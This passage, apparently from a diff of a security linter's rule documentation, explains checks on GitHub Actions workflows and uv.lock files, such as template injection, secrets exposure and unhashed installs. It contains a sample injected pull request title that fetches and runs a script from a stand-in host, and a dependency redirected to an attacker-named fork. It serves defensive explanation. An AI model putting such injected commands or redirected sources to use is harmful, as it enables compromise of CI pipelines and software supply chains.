\"mirror\"). It is not `explicit`, so uv may take any package from it, …\n```\n",
     "obfuscation": "# obfuscation\n\nDefault severity: **notice**.\n\nA `uses:` path or an expression is written so that it reads as something other than what runs.\n\nzizmor id: `obfuscation` (its ignore comment `# zizmor: ignore[obfuscation]` is honoured).\n\n## What it reports\n\nIn workflows and composite actions:\n\n- a `uses:` of a repository action or reusable workflow whose path has an empty component, a `.` or a\n  `..` (`actions/checkout/./@v4`, `github/codeql-action//init@v3`,\n  `actions/cache/save/../restore@v4`); the fix gives the plain path;\n- a `${{ }}` whose whole value is fixed by its text: a literal (`${{ false }}`), operators over\n  literals, or `format`, `contains`, `startsWith`, `endsWith`, `toJSON`, `join` over fixed arguments\n  (`${{ format('{0}', 'x') }}`); the message gives the value. `${{ '${{' }}`, GitHub's documented way\n  to write a literal `${{`, is not reported;\n- an expression, `${{ }}` or bare `if:`, that contains such a fixed part\n  (`'a' == 'a' && github.sha`, `github.event_name == format('{0}', 'push')`);\n- a `fromJSON(toJSON(x))` round trip, which is `x` itself (the no-op zizmor's documentation names);\n- a step whose whole `with:` is one expression (`with: ${{ fromJSON(…) }}`), which hides the action's\n  inputs from review and from every other check;\n- with the **pedantic** persona only: a computed index (`needs[matrix.name].result`,\n  `github.event[format(…)]`), whose target is only known at run time.\n\nEach is a notice with high confidence, as zizmor grades them (Low, and Informational for the\n`with:` case). `fromJSON()` is never treated as fixed (as in zizmor): `fromJSON('[…]')` is the usual\nway to write a list.\n\n## Why\n\nReview, allow-lists (`forbidden-uses`-style policies), pinning checks and scanners match what is\nwritten. A path with `..` or `//`, or a value assembled from literals at run time, shows a reader one\nthing while GitHub runs another, which is exactly what someone hiding a change wants. Written\nplainly, the same workflow is checked by everything that reads it.\n\n## How to fix\n\nWrite the plain form: the normalised `uses:` path, the value the expression evaluates to, the inputs\nas a `with:` map, and literal names instead of computed indices.\n\n## How to ignore\n\n`# lockgate: ignore[obfuscation]` on the line of the finding or on the line above it, or a config\nentry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: obfuscation\n    path: .github/workflows/ci.yml\n    until: 2027-01-31\n    reason: the job is disabled on purpose with if: ${{ false }}\n```\n\n## Example\n\n```yaml\n      - uses: actions/cache/save/../restore@v4\n```\n\n```\nnotice[obfuscation] .github/workflows/ci.yml:7:15\n  uses: actions/cache/save/../restore@v4 has a '..' component in its path; GitHub resolves it, but\n  reviewers, allow-lists and pinning checks that match action names see a different action from the\n  one that runs.\n  fix: Write the plain path: uses: actions/cache/restore@v4\n```\n",
     "overprovisioned-secrets": "# overprovisioned-secrets\n\nDefault severity: **warning**.\n\nAn expression hands the job every secret (`toJSON(secrets)`, or a secret picked by a computed name).\n\nzizmor id: `overprovisioned-secrets` (its ignore comment `# zizmor: ignore[overprovisioned-secrets]`\nis honoured).\n\n## What it reports\n\nEvery `${{ }}` in a workflow or composite action (any value: `env:`, `with:`, `run:`, …; never a YAML\ncomment) that uses the whole `secrets` context:\n\n- `toJSON(secrets)`, in any case and anywhere in the expression (`format('{0}', toJSON(secrets))`);\n- `secrets[<anything but a string literal>]`, such as `secrets[format('TOKEN_{0}', matrix.env)]` or\n  `secrets[matrix.name]`: GitHub cannot tell which secret the job reads, so it sends the runner all of\n  them;\n- `secrets.*` (every secret's value).\n\n`secrets.NAME`, `secrets['NAME']` and `toJSON(secrets.NAME)` are not reported. An expression that does\nnot parse is scanned for the same shapes outside its string literals.\n\n## Why\n\nA job normally receives only the secrets its expressions name. With the whole context, every\nrepository, organisation and environment secret the workflow can see goes into the runner: any step,\naction or tool of the job that is compromised, or a log line that prints the JSON, exposes them all,\nincluding publishing tokens and cloud keys the job never needed.\n\n## How to fix\n\nName each secret the step needs:\n\n```yaml\n      - run: ./deploy.sh\n        env:\n          DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}\n```\n\nFor a secret that depends on the matrix, give each case its literal name (one job or step per\nenvironment), or use GitHub environments (`environment: ${{ matrix.env }}`) whose secrets share one\nname.\n\n## How to ignore\n\n`# lockgate: ignore[overprovisioned-secrets]` on the line of the expression or on the line above it,\nor a config entry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: overprovisioned-secrets\n    path: .github/workflows/deploy.yml\n    until: 2027-01-31\n    reason: secret names are moved to environments in Q1\n```\n\n## Example\n\n```yaml\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    env:\n      ALL_SECRETS: ${{ toJSON(secrets) }}\n```\n\n```\nwarning[overprovisioned-secrets] .github/workflows/deploy.yml:5:20\n  toJSON(secrets) in jobs.deploy.env.ALL_SECRETS gives this job every secret the repository and its\n  organisation share with it, not just the ones it uses; anything in the job that reads or logs the\n  value (a step, an action, a crash dump) gets them all.\n  fix: Pass each secret the step needs by name instead: `${{ secrets.NAME }}`, one env: or with: entry\n  per secret.\n```\n",
+    "pip-in-uv-run": "# pip-in-uv-run\n\nDefault severity: **warning**.\n\nA workflow runs pip install inside uv run, past uv.lock.\n\n## What it reports\n\n`uv run pip install …`, `uv run python -m pip install …` and `uv run -m pip install …` in `run:`\nscripts: a **warning** when the install takes packages from the index without hashes (the\njudgement of `pip-unhashed`, which does not read these commands, so nothing is reported twice), a\n**notice** otherwise (`--require-hashes`, `--no-index`, built files on disk). `uv run --no-project`,\n`--script` and `--gui-script` have no project lock and are not reported. Quoted text\n(`echo \"uv run pip install x\"`), comments and here-documents are not commands. `uv-unlocked` may\nalso report the same `uv run` for its missing `--locked`; its fix is a different one.\n\n## Why\n\nWhat pip installs into the project's environment is in no lock and no review, and the next\n`uv sync` removes it again. A uv environment has no pip unless one is added, so `uv run pip` may\neven run another environment's pip from PATH.\n\n## How to fix\n\n`uv add --dev <package>` (reviewed with its hashes in uv.lock), then `uv sync --locked`; for a tool,\n`uvx <tool>@<version>`.\n\n## How to ignore\n\n`# lockgate: ignore[pip-in-uv-run]` on the command's line or the line above, or a config `ignore:`\nentry with `rule: pip-in-uv-run`.\n\n## Example\n\n```yaml\n      - run: uv run pip install pytest-xdist\n```\n\n```\nwarning[pip-in-uv-run] .github/workflows/ci.yml:9\n  `uv run pip install pytest-xdist` installs into the project's environment past uv.lock …\n```\n",
     "pip-unhashed": "# pip-unhashed\n\nDefault severity: **warning**.\n\nA workflow installs packages without hashes or pinned versions.\n\n## What it reports\n\nIn `run:` scripts (workflows and composite actions):\n\n- `pip install`, `pip3 install`, `python -m pip install`, `python3.12 -m pip install` and\n  `uv pip install` / `uv pip sync` without `--require-hashes`, when they install\n  - packages from the index (`pip install requests`, `pip install httpx==0.28.1`: a version pin is\n    not a hash),\n  - a requirements file (`-r requirements.txt`, `uv pip sync requirements.txt`): lockgate does not\n    read that file from the workflow, and pip checks every hash only with `--require-hashes`\n    (a `pylock.toml` always carries hashes and is not reported),\n  - the local project (`.`, `-e .[dev]`, `./pkg`) without `--no-deps`: its dependencies are\n    resolved from the index without hashes.\n- `uvx pkg`, `uv tool run pkg`, `uv tool install pkg`, `pipx install pkg`, `pipx run pkg` without a\n  pinned version: `pkg==1.2.3`, `pkg@1.2.3`, `--from 'pkg==1.2.3'`, `--spec pkg==1.2.3`, or a git\n  URL at a full commit SHA. `pkg@latest` and ranges (`tox>=4`) are reported.\n\nNot reported: installs with `--require-hashes`; `--no-index` installs (nothing comes from an index);\nbuilt files on disk (`dist/*.whl`, `./dist/pkg-1.0.tar.gz`); URLs with `#sha256=`; arguments that are\nshell variables (`\"$WHEEL\"`) or expressions, whose value is unknown here; and upgrading the installer\nitself alone (`pip install -U pip`, `pip setuptools wheel`), which nearly every job does and which\nthis rule would only turn into noise. The finding points at the line of the command.\n\n## Why\n\nAn install without hashes takes whatever file the index serves at that moment: a compromised\nmaintainer account, a hijacked project name or a malicious new release goes straight into the job,\nwith its token and secrets. A hash pins the exact file that was reviewed. For uv projects the\nlock already has every hash: `uv sync --locked` uses them.\n\n## How to fix\n\nFor the project's own dependencies, use the lock:\n\n```yaml\n      - run: uv sync --locked\n```\n\nFor a separate tool set, export hashed requirements and require them:\n\n```sh\nuv export --format requirements-txt --locked -o requirements.txt   # or: uv pip compile --generate-hashes\npip install --require-hashes -r requirements.txt\n```\n\nFor tools, pin the version: `uvx ruff@0.6.9 check .`, `uv tool install pre-commit==4.0.1`,\n`pipx install poetry==1.8.3`.\n\n## How to ignore\n\nOn the command's line or the line above it:\n\n```yaml\n      - run: |\n          # lockgate: ignore[pip-unhashed] tests installing from the live index on purpose\n          pip install requests\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: pip-unhashed\n    path: .github/workflows/docs.yml\n    until: 2027-01-01\n    reason: docs build moves to uv sync --locked next quarter\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pip install ruff\n      - run: ruff check .\n```\n\n```\nwarning[pip-unhashed] .github/workflows/ci.yml:8\n  This pip install installs ruff from the index with no hash to check, so a replaced or newly\n  published file would be installed unnoticed.\n  fix: uv export --format requirements-txt --locked -o requirements.txt   (writes hashes), then: pip install --require-hashes -r requirements.txt\n```\n",
     "ref-confusion": "# ref-confusion\n\nDefault severity: **warning**. Needs the network (GitHub API); silent offline.\n\nA uses: ref names both a branch and a tag of the action's repository.\n\nzizmor id: `ref-confusion` (its ignore comment `# zizmor: ignore[ref-confusion]` is honoured).\n\n## What it reports\n\nA `uses:` with a symbolic ref (`@v1`, `@main`; steps, composite action steps and reusable-workflow\njobs) when GitHub has both `refs/tags/<ref>` and `refs/heads/<ref>` in `owner/repo`. lockgate asks\n`GET /repos/{owner}/{repo}/git/ref/tags/{ref}` (as it already does to resolve the ref) and, when that\ntag exists, `GET /repos/{owner}/{repo}/git/ref/heads/{ref}`: one extra request per distinct ref that\nis a tag. Offline, or when GitHub does not answer, nothing is reported and the run log says what\ncould not be checked.\n\n## Why\n\nA reader of `uses: org/action@v1` expects one thing to run. When `v1` is both a branch and a tag,\nwhich one GitHub picks is not visible in the workflow, and anyone who can push a branch named `v1`\nto the action's repository (a contributor, a compromised bot) can change what runs without moving\nthe release tag.\n\n## How to fix\n\nPin the commit of the release you mean, with its tag as a comment:\n\n```sh\ngh api repos/org/action/git/ref/tags/v1 --jq .object.sha\n```\n\n```yaml\n      - uses: org/action@0c45773b623bea8c8e75f6c82b208c3cf94ea4f9 # v1.4.2\n```\n\nand ask the action's maintainers to delete the branch or the tag.\n\n## How to ignore\n\nOn the `uses:` line or the line above it:\n\n```yaml\n      # lockgate: ignore[ref-confusion] v1 branch is the release branch, same commit as the tag\n      - uses: org/action@v1\n```\n\nOr a config `ignore:` entry with the rule, the path, a reason and an `until` date.\n\n## Example\n\n```\nwarning[ref-confusion] .github/workflows/ci.yml:9:15\n  org/action has both a branch and a tag named v1: a reader cannot tell which one runs, and whoever\n  can push a branch of that name can change what this workflow runs.\n```\n",
     "ref-version-mismatch": "# ref-version-mismatch\n\nDefault severity: **warning**. Needs the network (GitHub API); silent offline.\n\nA pinned SHA's version comment names a tag that points elsewhere.\n\n## What it reports\n\nA `uses:` pinned to a full commit SHA whose comment on the same line names a version (`# v4.2.2`,\n`# tag=v4.2.2`, `# version: 4.2.2`, the forms pinning tools write) when GitHub says that tag is at\nanother commit, or has no such tag. The message names the commit the tag is at and the tag(s) the\npinned commit really carries.\n\nA comment naming a moving major tag (`# v4`) is accepted when the pinned commit carries a release of\nthat series (`v4.1.0`): the comment is then true, only less precise. Comments without a digit\n(`# main`, `# see issue`) are not version claims and are not checked. When GitHub could not be asked\n(offline, rate limit, budget), nothing is reported.\n\n## Why\n\nReviewers read the comment, not the 40 hex digits. A mismatched comment hides what really runs: an\nold release with known bugs, or a commit that was never released at all, presented as the version\neveryone expects. A pull request that changes the SHA but keeps the comment is the classic way to\nslip a different commit past review.\n\n## How to fix\n\nDecide which is right, the commit or the comment. The finding's `fix` gives both lines:\n\n```yaml\n      - uses: actions/cache@0c45773b623bea8c8e75f6c82b208c3cf94ea4f9 # v4.0.2   (keep this commit)\n      - uses: actions/cache@1bd1e32a3bdc45362d1e726936510720a7c30a57 # v4.2.0   (run the version the comment named)\n```\n\n\n## How to ignore\n\nOn the `uses:` line or the line above it:\n\n```yaml\n      # lockgate: ignore[ref-version-mismatch] patched fork of the release, see #123\n      - uses: my-org/action@0c45773b623bea8c8e75f6c82b208c3cf94ea4f9 # v2.1.0\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: ref-version-mismatch\n    path: .github/workflows/release.yml\n    until: 2027-01-01\n    reason: comment fixed with the next dependency update\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@0c45773b623bea8c8e75f6c82b208c3cf94ea4f9 # v4.1.0\n```\n\n```\nwarning[ref-version-mismatch] .github/workflows/ci.yml:8:15\n  The comment says v4.1.0, but v4.1.0 of actions/cache is commit 777777777777; the pinned commit\n  0c45773b623b is v4.0.2. The comment misleads reviewers about the code that runs.\n  fix: actions/cache@0c45773b623bea8c8e75f6c82b208c3cf94ea4f9 # v4.0.2   (keep this commit)\n```\n",
     "sdist-only": "# sdist-only\n\nDefault severity: **warning**.\n\nA newly locked registry package has only an sdist: installing it runs its build code.\n\n## What it reports\n\nEvery registry package that a change adds to `uv.lock` (new, or at a new version) whose entry has\nan `sdist` and no `wheels`. The finding points at the package's `[[package]]` line in `uv.lock`.\n\nNot reported: packages with at least one wheel (even if none fits every platform), packages from\ngit, URL, path or workspace sources (they are built from source by design), and packages uv is told\nnot to build: `no-build = true`, or the package listed in `no-build-package`, in the settings uv\nreads (the root `uv.toml`, else `[tool.uv]` of the root `pyproject.toml`). A package that was\nalready sdist-only at base and is only upgraded is reported with `introduced: false`.\n\n## Why\n\nA wheel is unpacked; a source distribution is built, and building runs the package's own code:\n`setup.py`, or the build backend and hooks its `pyproject.toml` names. That code runs on every\ndeveloper machine and CI job that installs the package, before anything imports it, with their\ncredentials and network access. Malicious packages often ship only an sdist for exactly this\nreason, and a new version that drops its wheels is worth a look even for a package you trust.\n\n## How to fix\n\nPick a version that publishes wheels (`uv add 'name>=X'`, then `uv lock`), or make uv refuse to\nbuild it, so that installing fails instead of running build code:\n\n```toml\n[tool.uv]\nno-build-package = [\"name\"]\n```\n\nor refuse every build:\n\n```toml\n[tool.uv]\nno-build = true\n```\n\n(In `uv.toml` the same keys go at the top level.)\n\n## How to ignore\n\nuv rewrites `uv.lock` on every `uv lock`, so an inline `# lockgate: ignore[sdist-only]` comment on\nthe `[[package]]` line (or the line above it) only lasts until the next lock. Use a config ignore\nwith a reason and an expiry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: sdist-only\n    package: pycrypto\n    until: 2027-01-31\n    reason: pure-Python sdist, build reviewed; replacing it in Q1\n```\n\n## Example\n\n```text\nuv.lock:32 warning sdist-only: \"buildme\" 1.0 is locked with a source distribution and no wheel:\ninstalling it builds it, and building runs the package's own code (its setup script or build\nbackend) on every machine that installs it.\nfix: Pick a version of \"buildme\" that publishes wheels, or make uv refuse to build it: add\nno-build-package = [\"buildme\"] under [tool.uv] in pyproject.toml (or no-build = true to refuse\nevery build), then run `uv lock`.\n```\n",
     "secrets-inherit": "# secrets-inherit\n\nDefault severity: **warning**.\n\nA reusable workflow call passes every secret with `secrets: inherit`.\n\n## What it reports\n\nA job that calls a reusable workflow (`jobs.<id>.uses:`) with `secrets: inherit`. The finding points\nat the `secrets:` key.\n\nThe fix is computed when the called workflow is a file of the same repository (`./…` or `$/…`):\nlockgate reads the secrets it declares under `on.workflow_call.secrets` and every `secrets.NAME` it\nreferences (with `inherit` a callee can read secrets it never declared), and gives the exact\n`secrets:` block to write, which secrets to declare in the callee, or that `secrets: inherit` can\nsimply be deleted because the callee reads none. `GITHUB_TOKEN` never needs passing. For a workflow\nin another repository, or one that passes `secrets: inherit` on itself, the fix shows the shape to\nwrite.\n\n## Why\n\n`secrets: inherit` hands the called workflow every secret the caller can see: repository,\norganisation and environment-less secrets alike, including publishing tokens and cloud keys it has no\nuse for. If the called workflow, or any action or tool it runs, is compromised or changed (for a\nremote workflow, by whoever controls that repository and ref), all of them leak, not just the one it\nneeded. Passing secrets by name keeps each workflow's blast radius to what it uses, and makes the\ndependency visible in review.\n\n## How to fix\n\n```yaml\njobs:\n  publish:\n    uses: ./.github/workflows/publish.yml\n    secrets:\n      PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }}\n```\n\nand in the called workflow:\n\n```yaml\non:\n  workflow_call:\n    secrets:\n      PYPI_TOKEN:\n        required: true\n```\n\n## How to ignore\n\nOn the `secrets:` line or the line above it:\n\n```yaml\n    # lockgate: ignore[secrets-inherit] orchestration workflow, same repository\n    secrets: inherit\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: secrets-inherit\n    path: .github/workflows/ci.yml\n    until: 2027-01-31\n    reason: same-repository reusable workflows; explicit secrets in Q1\n```\n\n## Example\n\n```yaml\njobs:\n  bench:\n    uses: ./.github/workflows/bench.yml\n    secrets: inherit\n```\n\n```\nwarning[secrets-inherit] .github/workflows/ci.yml:4:5\n  Job bench hands every secret this workflow can see to ./.github/workflows/bench.yml (secrets: inherit),\n  including ones it never uses; if that workflow or anything it runs is compromised, all of them leak.\n  fix: Replace secrets: inherit with:\n  secrets:\n    CODSPEED_TOKEN: ${{ secrets.CODSPEED_TOKEN }}\n  and declare CODSPEED_TOKEN under on.workflow_call.secrets in .github/workflows/bench.yml (it reads it\n  without declaring).\n```\n",
+    "setup-uv-unpinned": "# setup-uv-unpinned\n\nDefault severity: **warning**.\n\nastral-sh/setup-uv installs whatever uv release is newest when the job runs.\n\n## What it reports\n\nAn `astral-sh/setup-uv` step that does not pin the uv it installs:\n\n- no `version:` and no `version-file:`, when setup-uv would fall back to the newest release: v2 to\n  v5 always do; from v6 on setup-uv first reads `required-version` from `uv.toml`, then\n  `[tool.uv]` in `pyproject.toml` of its `working-directory`, and lockgate reads the same files;\n- `version: latest` (or `==latest`);\n- a range (`version: \"0.5\"`, `\">=0.4\"`, or a `required-version` range): a **notice**, since it moves\n  within the range only.\n\nAn exact `X.Y.Z` (or `==X.Y.Z`), a `version-file:`, `latest-known` (the newest uv the action release\nknows, so it moves only with the action's ref) and setup-uv v1 (fixed default) are pinned.\nExpressions are not judged.\n\nIn a job that publishes (it uses `pypa/gh-action-pypi-publish`, runs `uv publish`, `twine upload`,\n`poetry|hatch|flit|pdm publish`, or it builds a distribution, or its workflow is a release workflow\ntriggered by `release` or tag pushes) the finding is a **warning** of the regular persona. Anywhere\nelse it is a **notice** of the `pedantic` persona. The action's own ref is `unpinned-uses`'s concern.\n\n## Why\n\nIn a publishing job uv builds and uploads the release. An unpinned uv changes under the job the day\na new release is out: a broken or compromised uv release goes straight into the package users\ninstall, and nobody reviewed the change.\n\n## How to fix\n\n```yaml\n      - uses: astral-sh/setup-uv@<sha> # v7.1.0\n        with:\n          version: \"0.9.5\"\n```\n\nor `required-version = \"==0.9.5\"` under `[tool.uv]` (setup-uv v6 and later read it). `lockgate\nfix` does not fix this: which uv you tested is not something it can know offline.\n\n## How to ignore\n\n`# lockgate: ignore[setup-uv-unpinned]` on the `uses:` line or the line above, or a config\n`ignore:` entry with `rule: setup-uv-unpinned`, a path, a reason and an expiry.\n\n## Example\n\n```yaml\non:\n  push:\n    tags: [\"v*\"]\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: astral-sh/setup-uv@v7\n      - run: uv build && uv publish\n```\n\n```\nwarning[setup-uv-unpinned] .github/workflows/publish.yml:7\n  setup-uv without `version:` installs the newest uv release at the moment the job runs …\n```\n",
     "source-changed": "# source-changed\n\nDefault severity: **error**.\n\nA locked package moved to another source (registry to git/url/path, or another index).\n\n## What it reports\n\nA package that the base lock takes from one place and the head lock from another, at the head\nentry's `[[package]]` line in `uv.lock`:\n\n- from a registry (package index) to a git repository, a direct URL, a local path or directory,\n  or an editable checkout;\n- from one registry to another (`https://pypi.org/simple` to `https://mirror.example.com/simple`);\n- from a git repository to another repository, or between other non-registry sources with a\n  different location.\n\nNot reported: a move *onto* a registry (a local checkout or fork given up for the published\nrelease, as in flask dropping `werkzeug = { path = \"../werkzeug\" }`), a git dependency moving to\nanother commit of the same repository (an update; the JSON report still lists it as\n`source-changed`), and a local path that only becomes editable or non-editable. The project's own\nworkspace members are never compared. Versions locked several times (forked resolutions) are\nmatched by source first, so a fork does not look like a move.\n\n## Why\n\nThe version number stays the same, so a reviewer who reads \"idna 3.7\" sees nothing new, but the\ncode now comes from whoever controls the new source. A `[tool.uv.sources]` entry pointing a\nwell-known name at a fork, or an extra index that also serves that name (dependency confusion), is\nhow a pull request slips foreign code into a build without touching a single import.\n\n## How to fix\n\nIf the move is not intended, remove the entry from `[tool.uv.sources]` (or the index setting that\ncaused it) and re-lock:\n\n```sh\nuv lock\n```\n\nIf it is intended, review the new source (the repository, the commit, who controls the index), and\nprefer pinning it: `idna = { git = \"https://github.com/org/idna\", rev = \"<full sha>\" }`, or an\n`explicit = true` index used only by the packages that need it.\n\n## How to ignore\n\nuv rewrites `uv.lock` on every `uv lock`, so a comment there does not last; use a config entry,\nlimited to the package, with a reason and an expiry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: source-changed\n    package: idna\n    reason: our fork carries the IDNA 2008 fix until upstream releases it\n    until: 2026-12-31\n```\n\n`# lockgate: ignore[source-changed]` on the `[[package]]` line (or the line above) also works for\nas long as the comment survives.\n\n## Example\n\n```toml\n# pyproject.toml (head)\n[tool.uv.sources]\nidna = { git = \"https://github.com/attacker/idna\", branch = \"main\" }\n```\n\n```\nuv.lock:39 error source-changed: idna 3.7 now comes from git https://github.com/attacker/idna@3f1c…,\nno longer from registry https://pypi.org/simple. The package no longer comes from its index: …\n```\n",
     "stale-action-ref": "# stale-action-ref\n\nDefault severity: **notice**. Needs the network (GitHub API); silent offline. Pedantic persona: shown\nwith `persona: pedantic` or `auditor`.\n\nA pinned SHA is not the commit of any tag of the action repository.\n\nzizmor id: `stale-action-refs` (its ignore comment `# zizmor: ignore[stale-action-refs]` is honoured).\n\n## What it reports\n\nA step's `uses:` (in a workflow job or a composite action) pinned to a full commit SHA that no tag of\n`owner/repo` points at, according to GitHub's tag listing (`GET /repos/{owner}/{repo}/tags`, the same\nlisting `ref-version-mismatch` reads, so no extra request). A SHA that is an annotated tag's own object\ncounts as tagged. Only a complete listing is trusted: when the repository has more tags than lockgate\nlists (300), or the listing failed, nothing is reported. Reusable-workflow jobs are not checked, as in\nzizmor.\n\n## Why\n\nA commit between releases is code nobody released: no version names it, release notes do not\ndescribe it, and update tools (Dependabot, Renovate) cannot tell which version it is. It is often a\npin taken from a branch tip that was never meant to be used.\n\n## How to fix\n\nPin the commit of a release, with its tag as a comment:\n\n```sh\ngh api repos/actions/checkout/tags --jq '.[] | .name + \" \" + .commit.sha' | head\n```\n\n```yaml\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n```\n\n## How to ignore\n\nOn the `uses:` line or the line above it:\n\n```yaml\n      # lockgate: ignore[stale-action-ref] fix not released yet, see org/action#12\n      - uses: org/action@0c45773b623bea8c8e75f6c82b208c3cf94ea4f9\n```\n\nOr a config `ignore:` entry with the rule, the path, a reason and an `until` date.\n\n## Example\n\n```\nnotice[stale-action-ref] .github/workflows/ci.yml:8:15\n  Commit 0c45773b623b is not the commit of any tag of org/action: it is not a release, so no\n  version names the code that runs and update tools cannot tell what it is.\n```\n",
     "template-injection": "# template-injection\n\nDefault severity: **error** (attacker-controlled text), **warning** (other untrusted values).\n\nA `${{ }}` expansion of attacker-controlled text lands in a script.\n\nzizmor id: `template-injection` (its ignore comment `# zizmor: ignore[template-injection]` is honoured).\n\n## What it reports\n\nEvery `${{ … }}` inside code, in workflows and in composite actions' `runs.steps`, whose value is not\nknown to be safe. Code is:\n\n- a `run:` script;\n- the `script:` input of `actions/github-script`;\n- the inputs that other actions run as code, the list zizmor uses (GitHub's CodeQL injection sinks\n  and zizmor's additions): `8398a7/action-slack` `custom_payload`, `appleboy/ssh-action` `script`,\n  `azure/cli` and `azure/powershell` `inlineScript`, `devorbitus/yq-action-output`, `mikefarah/yq`\n  and `sergeysova/jq-action` `cmd`, `gautamkrishnar/blog-post-workflow` `item_exec`,\n  `imjohnbo/issue-bot` `body`, `linked-comments-previous-issue-text` and\n  `linked-comments-new-issue-text`, `lucasbento/auto-close-issues` `issue-close-message`,\n  `roots/issue-closer-action` `issue-close-message` and `pr-close-message`,\n  `skitionek/notify-microsoft-teams` `overwrite`, `tibdex/backport` `body_template`,\n  `head_template`, `labels_template` and `title_template`, `amadevus/pwsh-script` and\n  `jannekem/run-python-script-action` `script`, `cardinalby/js-eval-action` `expression`,\n  `addnab/docker-run-action` `options` and `run`. Other inputs of these actions, and inputs of\n  other actions, are data and not reported.\n\nThe finding points at the `${{` itself (line and column inside the script, in every scalar style:\n`|`, `|+`, `>`, `>-`, plain and quoted scalars over several lines).\n\n- **error**: the value is free text that outsiders write: pull request title, body, head branch\n  (`github.head_ref`, `github.event.pull_request.head.ref` / `.label` / `.repo.*`), issue title and\n  body, comment, review and review-comment bodies, discussion title and body, wiki page names,\n  commit messages and author or committer names and emails (`commits.*`, `head_commit`,\n  `merge_group.head_commit`), the `workflow_run` head branch, display title, head commit and head\n  repository; any object that contains one (`toJSON(github.event)`); and an `env.X` whose `env:`\n  entry is set from one of these.\n- **warning**: text the workflow cannot vouch for: step and job outputs (`steps.*.outputs.*`,\n  `needs.*.outputs.*`), free-text inputs (`inputs.*` and `github.event.inputs.*` of type string or\n  with no type, every input of a composite action), `env.X` not set to a literal, matrix values\n  computed from an expression, `github.ref_name`, `github.actor`, release fields, and any other\n  `github.event` field not known to be safe.\n- **never**: ids, numbers, SHAs, timestamps and flags (`github.sha`, `github.run_id`,\n  `github.repository`, `github.event.pull_request.number`, `…head.sha`), `runner.*`, `strategy.*`,\n  `secrets.*` (a secret in a script is not code an outsider chose), `vars.*` (set by admins),\n  `steps.*.outcome`, `needs.*.result`, inputs typed boolean, number, choice or environment (GitHub\n  validates them), `env.X` set to a literal, matrix values written as literals, and expressions that\n  yield only a boolean or a digest (`contains(…)`, `==`, `!`, `hashFiles(…)`). Only the parts of an\n  expression whose text can reach the result count: in `a && 'yes' || 'no'` nothing does.\n\nAn expression that does not parse is graded by every context named in it: never safe by accident.\n\nThe lists follow zizmor's `template-injection` audit (its context-capability table): zizmor's\n\"arbitrary\" fields reachable by outsiders are errors here, its \"structured\" fields (URLs) and unknown\n`github.*` paths are warnings. Unlike zizmor, lockgate follows `env.X` to the `env:` entry that sets\nit, and does not report the literal-safe \"code smell\" expansions zizmor shows in pedantic mode\n(`${{ env.X }}` of a literal `env:` value included). Severities map as zizmor's: its High\n(attacker-controlled, \"arbitrary\" text) is an error here; its Medium and Low (structured values,\ndynamic matrices, free-text inputs, unknown contexts) are warnings. An `env:` entry set from the\nexpression and read as a variable in the script (`\"$TITLE\"`) is the fix, and is never reported.\n\nConfidence and persona ([confidence and personas](../confidence.md)), after zizmor's grading:\nattacker-controlled text (directly or through an `env:` variable set from it) is **high**; other\n`github.*` values and a matrix that is not all literals **medium**; inputs of a type not known to\nbe safe, step and job outputs and variables set at run time **low**. An expansion of safe values\nonly (`${{ github.sha }}`, a typed input, a literal matrix or `env:` value) is zizmor's \"code\nsmell\": a **notice** of the **pedantic** persona, shown with `--persona pedantic` (secrets, job\nresults and step outcomes are never reported).\n\n## Why\n\nGitHub replaces `${{ }}` with its value as plain text before the shell (or github-script's\nJavaScript) reads the script. A pull request titled `x\"; curl https://evil.example/x | sh; echo \"`\nturns `echo \"${{ github.event.pull_request.title }}\"` into three commands that run with the job's\n`GITHUB_TOKEN` and secrets. Under `pull_request_target`, `issue_comment` or `workflow_run` that\ntoken can write to the repository. This is how the ultralytics package was compromised in\nDecember 2024: a branch name in `github.head_ref` ran inside a `pull_request_target` workflow, and\nthe attacker published releases with a cryptominer.\n\n## How to fix\n\nPass the value through an environment variable; the shell then treats it as data. The finding's\nfix gives the exact line, for example:\n\n```yaml\n      - name: greet\n        env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"$PR_TITLE\"\n```\n\nQuote the variable (`\"$PR_TITLE\"`). In PowerShell use `$env:PR_TITLE`, in github-script\n`process.env.PR_TITLE`. For values the runner already exports (`github.head_ref` is\n`$GITHUB_HEAD_REF`, `github.ref_name` is `$GITHUB_REF_NAME`) no `env:` line is needed, and for\n`${{ env.X }}` just write `\"$X\"`.\n\nFor an action input that is code (`mikefarah/yq` `cmd:`, `azure/cli` `inlineScript:` …) the fix says\nnot to write the expression into the input: set the value in the step's `env:` and read the variable\nfrom the code, or have an earlier step write it to a file the code reads.\n\n## How to ignore\n\n`# lockgate: ignore[template-injection]` on the line of the expansion or on the line above it.\nLockgate reads the raw line, so inside a `run: |` block a shell comment works, and in a\ngithub-script `script:` write it after `//`:\n\n```yaml\n        run: |\n          # lockgate: ignore[template-injection] version is validated by the previous step\n          ./release.sh \"${{ inputs.version }}\"\n```\n\nOr a config entry, with a reason and an expiry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: template-injection\n    path: .github/workflows/release.yml\n    until: 2027-01-31\n    reason: version input is validated by the previous step\n```\n\n## Example\n\n```yaml\non: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"\n```\n\n```\nerror[template-injection] .github/workflows/greet.yml:6:20\n  ${{ github.event.pull_request.title }} pastes attacker-controlled text (github.event.pull_request.title,\n  written by anyone who opens a pull request) into this run 